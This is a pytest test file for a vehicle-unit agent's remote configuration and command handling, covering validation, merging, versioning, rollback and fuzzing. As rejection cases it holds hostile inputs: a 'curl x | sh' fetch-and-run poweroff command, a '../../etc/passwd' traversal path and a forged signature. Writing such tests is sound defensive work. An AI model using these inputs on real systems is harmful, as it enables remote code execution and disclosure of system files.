"""Remote config pushes and remote commands: validation, merge, classification.

Pure: payload bytes and a fixed wall-clock time in, outcomes out.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import typing
from typing import Any

import pytest

from agent.config import AgentConfig
from agent.config_validate import parse_config
from agent.core.key_rules import DEFAULT_RULE, KEY_RULES, rule_for
from agent.core.remote_command import COMMANDS, parse_command
from agent.core.remote_config import (
    ConfigOutcome,
    ConfigState,
    current_message,
    handle_config_set,
    merge_overlay,
    rolled_back_result,
)
from agent.core.replay import RecentIds
from agent.core.requests import MAX_PAYLOAD_BYTES
from agent.core.rollback_guard import RollbackGuard

UTC = dt.timezone.utc
NOW = dt.datetime(2025, 3, 1, 12, 0, 0, tzinfo=UTC)
UNIT = "KEN-M-07"


def base_config(**sections: Any) -> AgentConfig:
    data = {
        "unit": {"id": UNIT, "kind": "motorcycle", "name": "Moto 07"},
        "mqtt": {"host": "mqtt.umps.example", "port": 8883, "username": UNIT, "password": "pw-0"},
        "storage": {"state_dir": "/var/lib/umps-agent"},
    }
    for name, table in sections.items():
        data.setdefault(name, {}).update(table)
    return parse_config(data)


@pytest.fixture
def state() -> ConfigState:
    return ConfigState.initial(base_config())


def encode(request: Any) -> bytes:
    return json.dumps(request, ensure_ascii=False).encode("utf-8")


def push(state: ConfigState, config: Any, version: int = 1, request_id: str = "r1", **extra: Any) -> ConfigOutcome:
    request = {"id": request_id, "version": version, "config": config, **extra}
    return handle_config_set(encode(request), state, NOW, validate=parse_config)


def errors(outcome: ConfigOutcome) -> list[tuple[str, str]]:
    return [(p.loc, p.msg) for p in outcome.result.errors]


def assert_rejected(outcome: ConfigOutcome, state: ConfigState, loc: str, fragment: str) -> None:
    assert outcome.state is None, "a rejected request must not produce a new state"
    assert not outcome.result.ok
    assert outcome.result.version == state.version
    assert outcome.result.restart_required is False
    assert any(l == loc and fragment in m for l, m in errors(outcome)), errors(outcome)


# ----------------------------------------------------------------- accepted


def test_a_valid_change_is_applied_and_classified(state: ConfigState) -> None:
    outcome = push(state, {"telemetry": {"rate_hz": 2}, "panel": {"labels": {"ar": {"busy": "مشغول"}}}})
    assert outcome.accepted and outcome.state is not None
    assert outcome.result.as_dict() == {
        "id": "r1", "ok": True, "version": 1, "errors": [], "restart_required": False,
    }
    new = outcome.state.config
    assert new.telemetry.rate_hz == 2.0
    assert new.panel.labels["ar"]["busy"] == "مشغول"
    assert new.mqtt.password is not None and new.mqtt.password.get_secret_value() == "pw-0"
    assert outcome.state.version == outcome.state.highest_version == 1
    assert outcome.state.request_id == "r1"
    change = outcome.change
    assert change.paths == ("panel.labels.ar", "telemetry.rate_hz")
    assert change.sections == {"panel", "telemetry"}
    assert not change.reinit and not change.restart_required and not change.dangerous
    assert not outcome.state.pending
    # The input state is untouched (it is what the runtime keeps on rejection).
    assert state.config.telemetry.rate_hz == 1.0 and state.version == 0


@pytest.mark.parametrize(
    ("config", "reinit", "restart", "dangerous"),
    [
        ({"telemetry": {"rate_hz": 5}}, set(), False, False),
        ({"storage": {"max_backlog_reports": 1000}}, set(), False, False),
        ({"panel": {"patterns": {"accepted": {"steps": [0.2]}}}}, set(), False, False),
        ({"panel": {"language": "ar"}}, set(), False, False),
        ({"ui": {"theme": "night", "language": "ar"}}, set(), False, False),
        ({"display": {"speech": True}}, set(), False, False),
        ({"logging": {"level": "DEBUG"}}, set(), False, False),
        ({"unit": {"name": "Moto 7"}}, set(), False, False),
        ({"gnss": {"port": "/dev/ttyUSB0", "baudrate": 38400}}, {"gnss"}, False, False),
        ({"gpio": {"inputs": {"ack": {"pin": 7}}}}, {"gpio"}, False, False),
        ({"display": {"rotate": 2}}, {"display"}, False, False),
        ({"gpio": {"factory": "pigpio"}}, set(), True, False),
        ({"ui": {"enabled": True}}, set(), True, False),
        ({"ui": {"http_port": 8081}}, set(), True, False),
        ({"unit": {"kind": "car"}}, set(), True, False),
        ({"mqtt": {"host": "mqtt2.umps.example"}}, {"mqtt"}, False, True),
        ({"mqtt": {"password": "pw-1"}}, {"mqtt"}, False, True),
        ({"mqtt": {"tls": {"insecure": True}}}, {"mqtt"}, False, True),
        ({"mqtt": {"keepalive_s": 60}, "telemetry": {"rate_hz": 2}}, {"mqtt"}, False, True),
    ],
)
def test_changes_are_classified(state, config, reinit, restart, dangerous) -> None:
    outcome = push(state, config)
    assert outcome.accepted, errors(outcome)
    assert outcome.change.reinit == reinit
    assert outcome.change.restart_required is restart
    assert outcome.result.restart_required is restart
    assert outcome.change.dangerous is dangerous
    assert outcome.state is not None and outcome.state.pending is dangerous


def test_pushing_the_current_values_changes_nothing(state: ConfigState) -> None:
    outcome = push(state, {"telemetry": {"rate_hz": 1.0}, "mqtt": {"host": "mqtt.umps.example"}})
    assert outcome.accepted
    assert outcome.change.paths == ()
    assert not outcome.change.dangerous
    assert outcome.state is not None and outcome.state.version == 1


def _leaf_fields(section: type, prefix: str = "") -> list[str]:
    paths = []
    hints = typing.get_type_hints(section)
    for f in dataclasses.fields(section):
        path = f"{prefix}{f.name}"
        if dataclasses.is_dataclass(hints[f.name]):
            paths.extend(_leaf_fields(hints[f.name], path + "."))
        else:
            paths.append(path)
    return paths


def test_every_config_key_has_an_explicit_rule() -> None:
    # A key added to config.py must be classified here, not fall to the default.
    for path in _leaf_fields(AgentConfig):
        parts = path.split(".")
        explicit = any(".".join(parts[:end]) in KEY_RULES for end in range(len(parts), 0, -1))
        assert explicit, f"{path} has no rule in KEY_RULES"
    assert rule_for("future_section.key") is DEFAULT_RULE
    assert DEFAULT_RULE.effect == "restart"


# ----------------------------------------------------------------- rejected


BIG_NAME = "x" * (MAX_PAYLOAD_BYTES)


@pytest.mark.parametrize(
    ("payload", "loc", "fragment"),
    [
        (encode({"id": "r1", "version": 1, "config": {"unit": {"name": BIG_NAME}}}), "", "limit is 65536"),
        (b"\xff\xfe" + encode({"id": "r1", "version": 1, "config": {}}), "", "not UTF-8"),
        (b'{"id": "r1", "version": 1, "config": {', "", "not valid JSON"),
        (b'{"id": "r1", "version": 1, "config": {"telemetry": {"rate_hz": NaN}}}', "", "not valid JSON"),
        (b'{"id": "r1", "version": 1, "version": 2, "config": {}}', "", "duplicate key 'version'"),
        (b"[1, 2]", "", "must be a JSON object, not an array"),
        (b'{"id": "r1", "version": 1, "config": {"telemetry": {"rate_hz": -1e400}}}', "", "out of range"),
        (b'"config"', "", "must be a JSON object, not a string"),
        (encode({"id": "r1", "version": 1, "config": {"a": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}}), "", "nested deeper"),
        (b"[" * 60000, "", "nested deeper"),
        (encode({"version": 1, "config": {}}), "id", "required"),
        (encode({"id": 7, "version": 1, "config": {}}), "id", "must be a string"),
        (encode({"id": "", "version": 1, "config": {}}), "id", "1 to 128 characters"),
        (encode({"id": "r" * 129, "version": 1, "config": {}}), "id", "1 to 128 characters"),
        (encode({"id": "r1", "config": {}}), "version", "required"),
        (encode({"id": "r1", "version": "2", "config": {}}), "version", "must be an integer, not a string"),
        (encode({"id": "r1", "version": True, "config": {}}), "version", "must be an integer, not a boolean"),
        (encode({"id": "r1", "version": 2.0, "config": {}}), "version", "must be an integer, not a number"),
        (encode({"id": "r1", "version": 0, "config": {}}), "version", "between 1 and"),
        (encode({"id": "r1", "version": 2**53, "config": {}}), "version", "between 1 and"),
        (encode({"id": "r1", "version": 1}), "config", "required"),
        (encode({"id": "r1", "version": 1, "config": [1]}), "config", "must be an object, not an array"),
        (encode({"id": "r1", "version": 1, "config": {}, "unit": UNIT}), "unit", "unknown key"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "tomorrow"}), "expires", "ISO 8601"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": 1740830400}), "expires", "ISO 8601"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "2025-03-02T12:00:00"}), "expires", "time zone"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "2025-03-01T11:59:59Z"}), "expires", "expired at 2025-03-01T11:59:59Z"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "2025-03-01T12:00:00Z"}), "expires", "expired"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "2025-03-01T12:30:00+01:00"}), "expires", "expired"),
        (encode({"id": "r1", "version": 1, "config": {}, "expires": "0001-01-01T00:00:00+01:00"}), "expires", "out of range"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 40 else None,
)
def test_bad_requests_are_rejected(state: ConfigState, payload: bytes, loc: str, fragment: str) -> None:
    outcome = handle_config_set(payload, state, NOW, validate=parse_config)
    assert_rejected(outcome, state, loc, fragment)


def test_the_request_id_is_echoed_when_readable(state: ConfigState) -> None:
    outcome = handle_config_set(encode({"id": "r-9", "version": "x", "config": {}}), state, NOW, validate=parse_config)
    assert outcome.result.id == "r-9"
    assert handle_config_set(b"nope", state, NOW, validate=parse_config).result.id is None
    assert handle_config_set(encode({"id": 5, "version": 1, "config": {}}), state, NOW, validate=parse_config).result.id is None


def test_every_problem_of_a_stage_is_reported_at_once(state: ConfigState) -> None:
    outcome = handle_config_set(encode({"version": "1", "config": 3, "extra": 1}), state, NOW, validate=parse_config)
    assert {loc for loc, _ in errors(outcome)} == {"id", "version", "config", "extra"}


def test_exactly_64_kib_is_accepted(state: ConfigState) -> None:
    request = {"id": "r1", "version": 1, "config": {"unit": {"name": ""}}}
    pad = MAX_PAYLOAD_BYTES - len(encode(request))
    request["config"]["unit"]["name"] = "é" * (pad // 2) + "x" * (pad % 2)
    payload = encode(request)
    assert len(payload) == MAX_PAYLOAD_BYTES
    assert handle_config_set(payload, state, NOW, validate=parse_config).accepted
    assert not handle_config_set(payload + b" ", state, NOW, validate=parse_config).accepted


@pytest.mark.parametrize(
    ("config", "loc", "fragment"),
    [
        ({"telemetry": {"speed": 3}}, "config.telemetry.speed", "unknown key"),
        ({"radio": {"channel": 3}}, "config.radio", "unknown key"),
        ({"gpio": {"inputs": {"horn": {"pin": 4}}}}, "config.gpio.inputs", "unknown input"),
        ({"mqtt": {"port": "8883"}}, "config.mqtt.port", "valid integer"),
        ({"mqtt": {"port": True}}, "config.mqtt.port", "valid integer"),
        ({"gpio": {"inputs": {"ack": {"pin": 16.0}}}}, "config.gpio.inputs.ack.pin", "valid integer"),
        ({"telemetry": {"rate_hz": "2"}}, "config.telemetry.rate_hz", "valid number"),
        ({"telemetry": 2}, "config.telemetry", "should be an object"),
        ({"mqtt": {"failover": {"host": "b"}}}, "config.mqtt.failover", "valid array"),
        ({"panel": {"language": "en"}}, "config.panel.language", "'fr' or 'ar'"),
        ({"telemetry": {"rate_hz": 50}}, "config.telemetry.rate_hz", "less than or equal to 10"),
        ({"mqtt": {"port": 70000}}, "config.mqtt.port", "less than 65536"),
        ({"mqtt": {"reconnect_min_s": 30, "reconnect_max_s": 10}}, "config.mqtt", "must not exceed reconnect_max_s"),
        ({"gpio": {"inputs": {"ack": {"pin": 5}}}}, "config.gpio", "pin 5 used by both"),
        ({"mqtt": {"tls": {"cert_file": "/etc/umps-agent/unit.crt"}}}, "config.mqtt.tls", "go together"),
        ({"unit": {"id": "KEN-M-08"}}, "config.unit.id", "may not be changed remotely"),
        ({"unit": {"id": UNIT}}, "config.unit.id", "may not be changed remotely"),
        ({"unit": None}, "config.unit", "unit.id may not be changed remotely"),
        ({"storage": {"state_dir": "/tmp/x"}}, "config.storage.state_dir", "may not be changed remotely"),
        ({"ui": {"host": "0.0.0.0"}}, "config.ui.host", "may not be changed remotely"),
        # A shell command run as the agent: never from the network.
        ({"power": {"poweroff_command": "curl x | sh"}}, "config.power.poweroff_command",
         "may not be changed remotely"),
        ({"power": {"ignition_pin": 5}}, "config", "is also gpio 'available'"),
        ({"security": {"admin_keys": ["AAAA"]}}, "config.security.admin_keys", "signing is not configured"),
        ({"security": None}, "config.security", "signing is not configured"),
    ],
)
def test_bad_config_values_are_rejected(state: ConfigState, config: Any, loc: str, fragment: str) -> None:
    assert_rejected(push(state, config), state, loc, fragment)


def test_allowed_and_refused_keys_in_one_push_apply_nothing(state: ConfigState) -> None:
    outcome = push(state, {"telemetry": {"rate_hz": 2}, "ui": {"host": "0.0.0.0"}})
    assert_rejected(outcome, state, "config.ui.host", "may not be changed remotely")


# ----------------------------------------------------------------- versions


def _accepted(outcome: ConfigOutcome) -> ConfigState:
    assert outcome.state is not None, errors(outcome)
    return outcome.state


def test_versions_must_increase_but_may_skip(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"telemetry": {"rate_hz": 2}}, version=1, request_id="a"))
    s5 = _accepted(push(s1, {"telemetry": {"rate_hz": 3}}, version=5, request_id="b"))
    for old in (5, 4, 1):
        assert_rejected(push(s5, {"telemetry": {"rate_hz": 4}}, version=old, request_id="c"), s5, "version", "greater than 5")
    assert _accepted(push(s5, {}, version=6, request_id="d")).version == 6


def test_a_redelivered_request_is_answered_again_without_change(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"telemetry": {"rate_hz": 2}}, version=1, request_id="a"))
    again = push(s1, {"telemetry": {"rate_hz": 2}}, version=1, request_id="a")
    assert again.result.ok and again.result.version == 1
    assert again.state is None and again.change.paths == ()


def test_a_rolled_back_version_cannot_be_pushed_again(state: ConfigState) -> None:
    rolled_back = ConfigState.build(state.base, {}, version=3, highest_version=4, request_id="r3", validate=parse_config)
    assert_rejected(push(rolled_back, {}, version=4, request_id="r4"), rolled_back, "version", "greater than 4")
    assert _accepted(push(rolled_back, {}, version=5, request_id="r5")).version == 5


def test_a_future_expiry_is_accepted(state: ConfigState) -> None:
    assert push(state, {}, expires="2025-03-01T12:00:01Z").accepted
    assert push(state, {}, expires="2025-03-01T13:00:01+01:00").accepted


def test_naive_now_is_a_programming_error(state: ConfigState) -> None:
    with pytest.raises(ValueError):
        handle_config_set(b"{}", state, dt.datetime(2025, 3, 1), validate=parse_config)


# ----------------------------------------------------------------- merging


def test_tables_merge_across_pushes(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"telemetry": {"rate_hz": 2}}, version=1))
    s2 = _accepted(push(s1, {"telemetry": {"backlog_max_rate": 100}, "panel": {"labels": {"fr": {"busy": "Occupé"}}}}, version=2))
    s3 = _accepted(push(s2, {"panel": {"labels": {"fr": {"available": "Libre"}, "ar": {"busy": "مشغول"}}}}, version=3))
    assert s3.config.telemetry.rate_hz == 2 and s3.config.telemetry.backlog_max_rate == 100
    assert s3.config.panel.labels == {"fr": {"busy": "Occupé", "available": "Libre"}, "ar": {"busy": "مشغول"}}
    assert s3.overlay == {
        "telemetry": {"rate_hz": 2, "backlog_max_rate": 100},
        "panel": {"labels": {"fr": {"busy": "Occupé", "available": "Libre"}, "ar": {"busy": "مشغول"}}},
    }


def test_lists_replace(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"mqtt": {"failover": [{"host": "b1"}, {"host": "b2", "port": 8884}]}}, version=1))
    s2 = _accepted(push(s1, {"mqtt": {"failover": [{"host": "b3"}]}}, version=2))
    assert [b.host for b in s2.config.mqtt.failover] == ["b3"]
    s3 = _accepted(push(s2, {"panel": {"status_buttons": {"motorcycle": ["available", "busy"]}}}, version=3))
    assert s3.config.panel.status_buttons["motorcycle"] == ["available", "busy"]
    assert s3.config.panel.status_buttons["car"] == state.config.panel.status_buttons["car"]


def test_null_drops_the_remote_value_back_to_the_local_file(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"mqtt": {"host": "b2", "keepalive_s": 60}, "telemetry": {"rate_hz": 2}}, version=1))
    s2 = _accepted(push(s1, {"mqtt": {"host": None}, "telemetry": None, "display": {"rotate": None}}, version=2))
    assert s2.config.mqtt.host == "mqtt.umps.example"  # from the TOML layer
    assert s2.config.mqtt.keepalive_s == 60
    assert s2.config.telemetry.rate_hz == 1.0
    assert s2.overlay == {"mqtt": {"keepalive_s": 60}}
    assert set(push(s1, {"mqtt": {"host": None}}, version=2).change.paths) == {"mqtt.host"}


def test_a_new_map_entry_keeps_the_defaults_beside_it(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"gpio": {"inputs": {"decline": {"pin": 7}}}}))
    assert s1.config.gpio.inputs["decline"].pin == 7
    assert s1.config.gpio.inputs["ack"] == state.config.gpio.inputs["ack"]
    assert len(s1.config.gpio.inputs) == len(state.config.gpio.inputs) + 1


def test_merge_overlay_rules() -> None:
    overlay = {"a": {"b": 1, "c": [1, 2]}, "d": 4}
    assert merge_overlay(overlay, {"a": {"c": [3]}}) == {"a": {"b": 1, "c": [3]}, "d": 4}
    assert merge_overlay(overlay, {"a": {"b": None, "c": None}}) == {"d": 4}
    assert merge_overlay(overlay, {"x": {"y": None, "z": 1}}) == {**overlay, "x": {"z": 1}}
    assert merge_overlay(overlay, {"d": {"e": 5}}) == {"a": overlay["a"], "d": {"e": 5}}
    assert merge_overlay(overlay, {"nothing": None}) == overlay
    assert overlay == {"a": {"b": 1, "c": [1, 2]}, "d": 4}  # input untouched


def test_a_dangerous_change_stays_pending_through_later_pushes(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"mqtt": {"host": "b2"}}, version=1))
    assert s1.pending
    s2 = _accepted(push(s1, {"telemetry": {"rate_hz": 2}}, version=2))
    assert s2.pending
    assert not s2.confirmed().pending


# ----------------------------------------------------------------- rollback guard


def test_guard_confirmed_by_a_connection() -> None:
    guard = RollbackGuard(120)
    guard.arm(100.0, version=3, request_id="r3")
    assert guard.tick(219.9) is None
    armed = guard.connected(150.0, version=3)
    assert armed is not None and (armed.version, armed.request_id) == (3, "r3")
    assert guard.armed is None
    assert guard.tick(1000.0) is None


def test_guard_rolls_back_once_after_the_deadline() -> None:
    guard = RollbackGuard(120)
    guard.arm(100.0, version=3, request_id="r3")
    assert guard.tick(220.0) is None  # the deadline itself is still in time
    due = guard.tick(220.1)
    assert due is not None and due.version == 3
    assert guard.tick(300.0) is None
    assert guard.connected(300.0, 3) is None


def test_guard_ignores_a_connection_made_with_other_settings() -> None:
    guard = RollbackGuard(120)
    guard.arm(0.0, version=3, request_id="r3")
    assert guard.connected(1.0, version=2) is None  # the old link, reporting late
    assert guard.armed is not None
    assert guard.connected(121.0, version=3) is None  # too late: tick decides
    assert guard.tick(121.0) is not None


def test_guard_keeps_its_deadline_when_rearmed_and_takes_an_override() -> None:
    guard = RollbackGuard(120)
    guard.arm(0.0, version=3, request_id="r3", timeout_s=30)
    guard.arm(20.0, version=4, request_id="r4")
    assert guard.armed is not None and guard.armed.deadline == 30.0 and guard.armed.version == 4
    with pytest.raises(ValueError):
        RollbackGuard(0)


def test_rolled_back_result(state: ConfigState) -> None:
    result = rolled_back_result("r3", 3, state, 120.0)
    assert result.as_dict() == {
        "id": "r3",
        "ok": False,
        "version": 0,
        "errors": [{"loc": "config.mqtt", "msg": "rolled back to version 0: no broker accepted the unit with version 3 within 120 s"}],
        "restart_required": False,
    }
    assert json.loads(result.to_json()) == result.as_dict()


# ----------------------------------------------------------------- commands


def command(payload: Any, config: AgentConfig | None = None, recent: RecentIds | None = None, now: dt.datetime = NOW):
    return parse_command(encode(payload) if not isinstance(payload, bytes) else payload,
                         config or base_config(), now, recent if recent is not None else RecentIds())


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_are_accepted(name: str) -> None:
    outcome = command({"id": "c1", "command": name, **({"trace": "8f14e45f"} if name == "crash_trace" else {})})
    assert outcome.rejected is None and outcome.command is not None
    assert outcome.command.command == name
    assert outcome.command.done().as_dict() == {"id": "c1", "ok": True, "command": name, "errors": []}


@pytest.mark.parametrize(
    ("payload", "loc", "fragment"),
    [
        (b"\x00\xff", "", "not UTF-8"),
        (b"{}" + b" " * MAX_PAYLOAD_BYTES, "", "limit"),
        ({"command": "flush_backlog"}, "id", "required"),
        ({"id": "c1"}, "command", "required"),
        ({"id": "c1", "command": "reboot"}, "command", "unknown command"),
        ({"id": "c1", "command": "flush_backlog", "version": 1}, "version", "unknown key"),
        ({"id": "c1", "command": "flush_backlog", "expires": "2025-03-01T11:00:00Z"}, "expires", "expired"),
        ({"id": "c1", "command": "flush_backlog", "expires": "2025-03-03T12:00:00Z"}, "expires", "at most 24 h"),
        ({"id": "c1", "command": "flush_backlog", "expires": "9999-12-31T23:59:59-01:00"}, "expires", "out of range"),
        ({"id": "c1", "command": "flush_backlog", "expires": "soon"}, "expires", "ISO 8601"),
    ],
)
def test_bad_commands_are_rejected(payload: Any, loc: str, fragment: str) -> None:
    outcome = command(payload)
    assert outcome.command is None and outcome.rejected is not None
    assert not outcome.rejected.ok
    found = [(p.loc, p.msg) for p in outcome.rejected.errors]
    assert any(l == loc and fragment in m for l, m in found), found


def test_a_command_runs_once() -> None:
    recent = RecentIds()
    assert command({"id": "c1", "command": "report_position"}, recent=recent).command is not None
    again = command({"id": "c1", "command": "report_position"}, recent=recent)
    assert again.command is None and again.rejected is not None
    assert again.rejected.as_dict() == {
        "id": "c1", "ok": False, "command": "report_position",
        "errors": [{"loc": "id", "msg": "this command was already handled"}],
    }


def test_recent_ids_are_bounded_and_expire() -> None:
    recent = RecentIds(capacity=3)
    for i in range(5):
        recent.remember(f"c{i}", None, NOW)
    assert len(recent) == 3 and "c0" not in recent and "c4" in recent
    recent.remember("short", NOW + dt.timedelta(seconds=10), NOW)
    recent.remember("next", None, NOW + dt.timedelta(seconds=11))
    assert "short" not in recent


def test_config_current_is_redacted(state: ConfigState) -> None:
    s1 = _accepted(push(state, {"mqtt": {"password": "pw-new"}, "telemetry": {"rate_hz": 2}}))
    message = current_message(s1)
    assert message["version"] == 1
    assert message["config"]["mqtt"]["password"] == "***"
    assert "pw-new" not in json.dumps(message)
    assert message["config"]["telemetry"]["rate_hz"] == 2
    assert message["hash"] == s1.config.digest() != current_message(state)["hash"]
    assert current_message(state)["version"] == 0


def test_the_core_needs_no_io_library() -> None:
    import subprocess
    import sys
    from pathlib import Path

    code = (
        "import sys, agent.core.remote_config, agent.core.signing; "
        "print([m for m in ('paho', 'serial', 'gpiozero', 'sqlite3') if m in sys.modules])"
    )
    root = Path(__file__).resolve().parent.parent
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=root)
    assert out.stdout.strip() == "[]"


# ----------------------------------------------------------------- fuzzing

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)
config_keys = st.sampled_from(["unit", "mqtt", "telemetry", "gpio", "panel", "security", "storage", "ui", "x"])
requests = st.fixed_dictionaries(
    {},
    optional={
        "id": st.one_of(st.text(max_size=8), json_values),
        "version": st.one_of(st.integers(-2, 2**60), json_values),
        "config": st.one_of(st.dictionaries(config_keys, json_values, max_size=3), json_values),
        "command": st.one_of(st.sampled_from(COMMANDS), json_values),
        "expires": st.one_of(
            st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()), st.text(max_size=30), json_values
        ),
        "sig": json_values,
    },
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=requests)
def test_no_request_crashes_the_handlers(body: dict) -> None:
    state = ConfigState.initial(base_config())
    payload = encode(body)
    outcome = handle_config_set(payload, state, NOW, validate=parse_config)
    assert outcome.result.ok or outcome.state is None
    parse_command(payload, state.config, NOW, RecentIds())


@settings(max_examples=200, deadline=None)
@given(payload=st.binary(max_size=200))
def test_no_bytes_crash_the_handlers(payload: bytes) -> None:
    state = ConfigState.initial(base_config())
    assert not handle_config_set(payload, state, NOW, validate=parse_config).result.ok or payload.startswith(b"{")
    parse_command(payload, state.config, NOW, RecentIds())


def test_a_unit_without_admin_keys_says_it_ignored_a_signature(state: ConfigState) -> None:
    # A forged sig to a unit with no keys is applied (it takes unsigned pushes), but the answer
    # says that no signature was checked, so an admin never reads "ok" as "verified".
    outcome = push(state, {"telemetry": {"rate_hz": 2}}, sig="Zm9yZ2Vk", expires="2025-03-02T12:00:00Z")
    body = outcome.result.as_dict()
    assert body["ok"] is True
    assert [w["loc"] for w in body["warnings"]] == ["sig"] and "ignored" in body["warnings"][0]["msg"]
    refused = push(state, {"telemetry": {"rate_hz": 99}}, sig="Zm9yZ2Vk").result.as_dict()
    assert refused["ok"] is False and refused["warnings"][0]["loc"] == "sig"
    assert "warnings" not in push(state, {"telemetry": {"rate_hz": 2}}).result.as_dict()  # nothing to say
    command = parse_command(encode({"id": "c1", "command": "report_position", "sig": "Zm9yZ2Vk"}), state.config, NOW,
                            RecentIds())
    assert command.command is not None and command.command.done().as_dict()["warnings"][0]["loc"] == "sig"
    # A unit with keys checks the signature: a forged one is an error, not a warning.
    signed = ConfigState.initial(base_config(security={"admin_keys": ["11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="]}))
    forged = push(signed, {"telemetry": {"rate_hz": 2}}, sig="Zm9yZ2Vk", expires="2025-03-02T12:00:00Z").result.as_dict()
    assert forged["ok"] is False and forged["errors"][0]["loc"] == "sig" and "warnings" not in forged


def test_crash_trace_needs_its_trace() -> None:
    outcome = command({"id": "c2", "command": "crash_trace"})
    assert outcome.rejected is not None and outcome.rejected.errors[0].loc == "trace"
    bad = command({"id": "c3", "command": "crash_trace", "trace": "../../etc/passwd"})
    assert bad.rejected is not None and bad.rejected.errors[0].loc == "trace"
